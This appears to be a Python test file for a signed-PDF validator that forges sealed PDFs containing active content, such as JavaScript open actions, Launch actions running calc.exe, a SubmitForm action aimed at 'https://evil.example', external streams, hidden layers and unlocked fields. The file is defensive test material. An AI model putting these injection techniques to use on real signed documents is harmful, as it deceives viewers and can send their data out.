"""What a server might be tricked into rendering: revision 0 itself is not what it seems.

The seals on it are true and the evidence agrees; but what such a page shows can depend on a
viewer's choice, on a script or on another file, and so it was never one thing that was read.
"""

from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils.reader import PdfFileReader

from tests.attacks.honest import Honest, seal_for
from tests.attacks.structures import stream
from tests.attacks.table import forgery

Harm = Callable[[Any], None]
ACTIVE = "active-content"


def rendered_with(honest: Honest, harm: Harm | None = None) -> bytes:
    """Revision 0 with something else in it, under a table in the form of our own."""
    with pikepdf.open(BytesIO(honest.rendered)) as pdf:
        if harm:
            harm(pdf)
        out = BytesIO()
        plain = pikepdf.ObjectStreamMode.disable
        pdf.save(out, object_stream_mode=plain, fix_metadata_version=False, force_version="1.7")
    reader = PdfFileReader(out)
    places = reader.xrefs.get_xref_data(0).standard_xrefs
    start, number = reader.last_startxref, int(reader.trailer["/Size"])
    rows = b"\0" * 5 + b"".join(b"\1" + places[n][1].to_bytes(4, "big") for n in range(1, number))
    head = b"/Type /XRef /W [1 4 0] /Index [0 %d] /Size %d /Root %d 0 R /Info %d 0 R /ID [%b]" % (
        number + 1, number + 1, reader.root_ref.idnum, reader.trailer.raw_get("/Info").idnum,
        b"".join(b"<%b>" % part.hex().encode() for part in reader.document_id),
    )  # fmt: skip
    table = stream(number, head, rows + b"\1" + start.to_bytes(4, "big"))
    return out.getvalue()[:start] + table + b"startxref\n%d\n%%%%EOF\n" % start


def sealed(honest: Honest, harm: Harm | None = None) -> bytes:
    revision0 = rendered_with(honest, harm)
    return seal_for(honest.basic, revision0, revision0)


def rendering(*reasons: str) -> Callable[[Harm], Harm]:
    def enter(harm: Harm) -> Harm:
        @forgery(*reasons, on=["signed"], name=f"{harm.__name__}/rendered")
        def forge(honest: Honest, _pdf: bytes) -> bytes:
            return sealed(honest, harm)

        return harm

    return enter


def link(pdf: Any, **action: Any) -> None:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=Dictionary(**action)
    )
    page = pdf.pages[0]
    page.Annots = Array([*page.get("/Annots", Array()), pdf.make_indirect(annotation)])


@rendering(ACTIVE)
def layer_shadow(pdf):
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("x")))
    pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer]))


@rendering(ACTIVE)
def layer_without_properties(pdf):
    pdf.pages[0].Resources.Properties = Dictionary(L=Dictionary(Type=Name.OCG, Name=String("x")))


@rendering(ACTIVE)
def script_at_opening(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


@rendering(ACTIVE)
def script_by_name(pdf):
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("a"), action]))


@rendering(ACTIVE)
def program_behind_a_link(pdf):
    link(pdf, S=Name.Launch, F=String("calc.exe"))


@rendering(ACTIVE)
def program_behind_the_next_action(pdf):
    then = Dictionary(S=Name.Launch, F=String("calc.exe"))
    link(pdf, S=Name.URI, URI=String("https://example.com"), Next=then)


@rendering(ACTIVE)
def file_sent_by_the_next_actions(pdf):
    then = Array([Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))])
    link(pdf, S=Name.URI, URI=String("https://example.com"), Next=then)


@rendering(ACTIVE)
def program_named_in_an_object_of_its_own(pdf):
    then = Dictionary(S=pdf.make_indirect(Name.Launch), F=String("calc.exe"))
    link(pdf, S=Name.URI, URI=String("https://example.com"), Next=then)


@rendering(ACTIVE)
def layer_named_in_an_object_of_its_own(pdf):
    layer = Dictionary(Type=pdf.make_indirect(Name.OCG), Name=String("x"))
    pdf.pages[0].Resources.Properties = Dictionary(L=layer)


@rendering(ACTIVE)
def content_from_another_file(pdf):
    stream = pdf.make_stream(b"")
    stream.F = String("outside.bin")
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, stream])


@rendering(ACTIVE)
def page_of_another_file(pdf):
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Ref = Dictionary(F=String("other.pdf"), Page=0)
    pdf.pages[0].Resources.XObject = Dictionary(X=form)


@rendering(ACTIVE)
def program_in_a_picture(pdf):
    form = pdf.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].Resources.XObject = Dictionary(X=form)


@rendering(ACTIVE)
def note_over_the_text(pdf):
    note = Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=[0, 0, 99, 99])
    pdf.pages[0].Annots = Array([*pdf.pages[0].get("/Annots", Array()), pdf.make_indirect(note)])


@rendering("unexpected-field")
def field_to_fill(pdf):
    field = Dictionary(
        FT=Name.Tx, T=String("amount"), Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9]
    )
    pdf.Root.AcroForm.Fields.append(pdf.make_indirect(field))


@rendering("not-locking")
def field_without_lock(pdf):
    del pdf.Root.AcroForm.Fields[1]["/Lock"]


@rendering(ACTIVE)
def form_of_another_kind(pdf):
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")
